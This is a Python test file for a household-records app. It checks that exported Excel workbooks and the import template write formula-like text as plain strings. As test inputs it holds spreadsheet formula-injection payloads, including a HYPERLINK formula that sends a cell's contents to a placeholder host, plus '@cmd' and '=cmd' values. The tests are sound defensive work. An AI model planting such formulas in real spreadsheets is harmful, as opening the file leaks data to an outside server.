"""Issue 11, item 3: every text cell of every workbook the app writes is a string, never a formula."""

import re
import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from households.importing import household_import
from households.importing.template import template_workbook
from households.models import Household
from hungbinh.workbooks import append_row

from ..factories import HouseholdFactory, MemberFactory

PAYLOAD = '=HYPERLINK("http://example.com/?"&A1,"Xem")'
HOSTILE = [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "=1+1"]


def formulas(content: bytes) -> list[str]:
    """The <f> elements of every sheet of an .xlsx file."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", archive.read(name).decode())
        ]


def text_cells(content: bytes):
    workbook = load_workbook(BytesIO(content))
    return [c for sheet in workbook for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.parametrize("write_only", [True, False])
def test_append_row_writes_strings(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("S") if write_only else workbook.active
    append_row(sheet, [*HOSTILE, 12, None])
    stream = BytesIO()
    workbook.save(stream)
    assert formulas(stream.getvalue()) == []
    cells = text_cells(stream.getvalue())
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}


def test_append_row_does_not_scan_the_sheet(monkeypatch):
    """Worksheet.max_row and max_column scan every cell: asked once a row, a 5,000-household campaign
    workbook took minutes and timed out in the load test."""
    from openpyxl.worksheet.worksheet import Worksheet

    sheet = Workbook().active
    append_row(sheet, ["Số TT", "Họ tên"])

    def scan(self):
        raise AssertionError("append_row scanned the sheet")

    monkeypatch.setattr(Worksheet, "max_row", property(scan))
    monkeypatch.setattr(Worksheet, "max_column", property(scan))
    for number in range(1, 4):
        append_row(sheet, [number, "=cmd", None])
    monkeypatch.undo()
    assert [[cell.data_type for cell in row] for row in sheet.iter_rows(min_row=2)] == [["n", "s", "n"]] * 3
    assert sheet.cell(row=4, column=2).value == "=cmd"


def test_the_import_template_has_no_formula():
    content = template_workbook()
    assert formulas(content) == []
    assert {c.data_type for c in text_cells(content)} == {"s"}


@pytest.mark.django_db
def test_the_export_writes_formula_text_as_text_and_imports_back(client, world):
    household = HouseholdFactory(khoi=world.hb_k1, code="HB-1", head_name=PAYLOAD, address="=A1&A2")
    MemberFactory(household=household, full_name="@cmd", relation="-Con")
    client.force_login(world.users["ward_officer_hb"])
    response = client.get("/reports/households.xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert formulas(content) == []
    values = {c.value for c in text_cells(content)}
    assert {PAYLOAD, "=A1&A2", "@cmd", "-Con"} <= values
    # The file imports back as the same text, changing nothing.
    result = household_import(by=world.users["ward_officer_hb"], ward=world.hb, file=BytesIO(content), dry_run=False)
    assert result.ok, result.errors
    assert Household.objects.get().head_name == PAYLOAD


@pytest.mark.django_db
def test_the_report_tables_write_names_as_text(client, world):
    """The report tables' workbooks (reports/tables.py, write_sheet: the detailed lists, the review-result tables,
    the progress report) wrote each label and value as given, so a head or a member named "=HYPERLINK(…)" in
    the lists of poor households became a live formula in the file the upper level opens."""
    from datetime import date

    household = HouseholdFactory(
        khoi=world.hb_k1, status="poor", status_since=date(2024, 1, 15), code="+HB-1", head_name=PAYLOAD
    )
    MemberFactory(household=household, full_name="@cmd", relation="-Con")
    client.force_login(world.users["ward_officer_hb"])
    response = client.get(f"/reports/lists/ward/{world.hb.pk}/2025.xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert formulas(content) == []
    cells = text_cells(content)
    assert {PAYLOAD, "+HB-1", "@cmd", "-Con"} <= {c.value for c in cells}
    assert {c.data_type for c in cells} == {"s"}
